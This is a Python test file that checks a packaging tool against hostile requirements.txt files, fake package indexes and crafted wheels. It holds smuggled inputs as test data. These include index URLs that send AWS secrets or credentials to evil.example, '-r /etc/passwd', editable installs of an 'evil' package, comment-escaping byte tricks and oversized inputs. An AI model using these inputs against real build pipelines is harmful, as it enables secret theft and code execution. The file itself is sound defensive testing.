"""A hostile requirements.txt through the program itself, with pip as it is: the finding names the line, and no index of the
repository's is asked for what it must not know."""

import http.server
import shutil
import threading

import pytest

SERVICE = "service: x\nregion: us-east-1\nfunctions: {f: {handler: h/app.f, runtime: python3.13}}\n"


@pytest.fixture
def index():
    """An index of packages that has none, and what it was asked."""
    asked = []

    class Index(http.server.BaseHTTPRequestHandler):
        def log_message(self, *_):
            pass

        def do_GET(self):
            asked.append((self.path, str(self.headers)))
            self.send_error(404)

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Index)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()


@pytest.fixture
def service(hostile):
    hostile.write("service.yml", SERVICE)
    hostile.write("h/app.py", "def f(e, c): pass\n")
    hostile.write("evil/setup.py", f"open({str(hostile.proof)!r}, 'w')\n")
    hostile.write("setup.py", f"open({str(hostile.proof)!r}, 'w')\n")
    return hostile


LINES = {
    b"--pre -e ./evil": ("E304", 1), b"a==1\n-e ./evil": ("E304", 2), b"# x\x0c./evil": ("E304", 1), b"# x\n# y\x85\xe2\x80\xa8./evil": ("E304", 2),
    b"a==1\n# x\xe2\x80\xa8./evil": ("E304", 2), b"# x\r./evil": ("E304", 1), b"# x\x00./evil": ("E304", 1), b"# coding: utf-7\n# x +AAo-./evil": ("E304", 1),
    b"\n#coding=utf-16\n": ("E304", 2), b"\xff\xfea\x00": ("E304", 1), b"a==1 --config-settings x=y": ("E304", 1), b"a==1 \\\n  -e ./evil": ("E304", 2),
    b"./evil": ("E304", 1), b"evil @ file:./evil": ("E304", 1), b"b==1\n\n  a==1+x.zip": ("E304", 3), b"--edit ./evil": ("E304", 1), b"-f ./evil": ("E304", 1),
    b"-r /etc/passwd": ("E304", 1), b"a==1\n--trusted-host evil.example": ("E304", 2), b"--index-url https://u:p@evil.example/simple": ("E316", 1),
    b"a==1\n--index-url https://evil.example/${AWS_SECRET_ACCESS_KEY}/simple": ("E316", 2), b"a==1 \\\n # x\n${HOME}/evil": ("E316", 3),
}


@pytest.mark.parametrize("text", LINES)
def test_the_line_is_named(service, text):
    code, line = LINES[text]
    service.write("requirements.txt", text + b"\n")
    for command in ("validate", "generate", "package"):
        result = service.run(command, PIP_NO_INDEX="1")
        assert result.status == 1
        result.finding(code, f"requirements.txt:{line}:")


def test_an_index_learns_nothing(service, index):
    url, asked = index
    for option in ("-i", "--index-url", "--extra-index-url"):
        service.write("requirements.txt", f"{option} {url}/${{AWS_SECRET_ACCESS_KEY}}/simple\na==1\n")
        service.run("package", PIP_NO_INDEX="1").finding("E316", "requirements.txt:1:")
    assert not asked
    service.write("requirements.txt", f"--index-url {url}/simple\na==1\n")
    service.run("package", PIP_CONFIG_FILE="/dev/null").finding("E312")
    assert asked and "HOSTILEMARK" not in str(asked)


def test_the_user_configures_pip(service, index):
    """A private index, with its credentials, by a variable and by pip.conf."""
    url, asked = index
    service.write("requirements.txt", "a==1\n")
    private = url.replace("://", "://user:HOSTILEMARKpip@") + "/private"
    service.run("package", PIP_INDEX_URL=private).finding("E312")
    assert asked and all(path.startswith("/private/a") for path, _ in asked)
    asked.clear()
    folder = service.home / ".config/pip"
    folder.mkdir(parents=True)
    (folder / "pip.conf").write_text(f"[global]\nindex-url = {private}\n")
    service.run("package").finding("E312")
    assert asked and all(path.startswith("/private/a") for path, _ in asked)


def test_requires_dist_of_a_wheel(service, tmp_path):
    """What a wheel says it needs goes back to pip only as a name and a version."""
    import zipfile
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    evil = service.repository / "evil"
    hostile = [f"evil @ file://{evil}", f"-e {evil}", "b; python_version >= '3'\n --index-url http://127.0.0.1:9", "evil.zip", f"{evil}", "c --pre", "d ${HOME}", "e\\"]
    with zipfile.ZipFile(wheels / "a-1-py3-none-any.whl", "w") as wheel:
        wheel.writestr("a.py", "x = 1\n")
        wheel.writestr("a-1.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr("a-1.dist-info/RECORD", "")
        wheel.writestr("a-1.dist-info/METADATA", "Metadata-Version: 2.1\nName: a\nVersion: 1\nRequires-Dist: old; python_version < '3.0' or extra == 'x'\n" + "".join(
            f"Requires-Dist: {line}; python_version < '3.0'\n" if "\n" not in line else f"Requires-Dist: {line}\n" for line in hostile))
    service.write("requirements.txt", "a==1\n")
    result = service.run("package", PIP_NO_INDEX="1", PIP_FIND_LINKS=str(wheels), seconds=60)
    assert "E3" in result.all or not result.status
    shutil.rmtree(wheels)


@pytest.mark.parametrize("text", [b"a[" + b"x," * 300000 + b"x]==1", b"a==1" + b",==1" * 200000, b"--pre " * 150000, b"a==1" + (b" --hash=sha256:" + b"0" * 64) * 12000,
                                  b"a==1 \\\n" * 150000, b"a==1; " + b"(" * 500000, b"# coding " * 100000, b"a==1; os_name == 'x'" + b" and os_name == 'x'" * 50000,
                                  b"a==1\n" * 150000, b"- " * 400000, b"#\n" * 500000 + b"-e x", b"a[" * 400000, b"\xc2\x80" * 400000])
def test_time_is_linear(service, text):
    service.write("requirements.txt", text)
    service.run("validate", seconds=15)
